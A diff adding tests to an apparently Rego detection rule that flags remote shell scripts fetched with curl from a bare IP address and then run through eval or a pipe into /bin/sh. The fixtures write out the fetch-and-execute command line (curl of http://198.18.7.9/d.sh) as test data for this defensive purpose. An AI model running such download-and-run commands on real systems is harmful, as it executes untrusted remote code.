@@ -28,6 +28,34 @@ test_plain_http_from_an_address if {
 	}
 }
 
+# eval "$(curl …)": nothing but the shell that was there runs.
+taken_in(ran, payload) := object.union(
+	f.observation({
+		"processes": [f.process(20, ["/usr/bin/curl", "-s", "http://198.18.7.9/d.sh"], {})],
+		"flows": [by_address],
+		"http": [f.request(by_address, "GET", "/d.sh", {"payload": payload})],
+	}),
+	{"run": {"marker_ran": ran}},
+)
+
+test_taken_in_by_a_shell if {
+	found := rule.finding with input as taken_in(true, "script")
+	f.malicious(found)
+	f.pointed(found)
+}
+
+test_not_only_fetched if {
+	count(rule.finding) == 0 with input as taken_in(false, "script")
+	count(rule.finding) == 0 with input as taken_in(true, "elf")
+}
+
+# A script that was piped prints as well, and is told once.
+test_told_once if {
+	piped_in := piped(["/usr/bin/curl", "-s", "http://198.18.7.9/d.sh"], ["/bin/sh"], by_address, f.request(by_address, "GET", "/d.sh", {"payload": "script"}))
+	found := rule.finding with input as object.union(piped_in, {"run": {"marker_ran": true}})
+	count(found) == 1
+}
+
 test_paste_host if {
 	flow := by_name("pastebin.com", {})
 	found := rule.finding with input as piped(
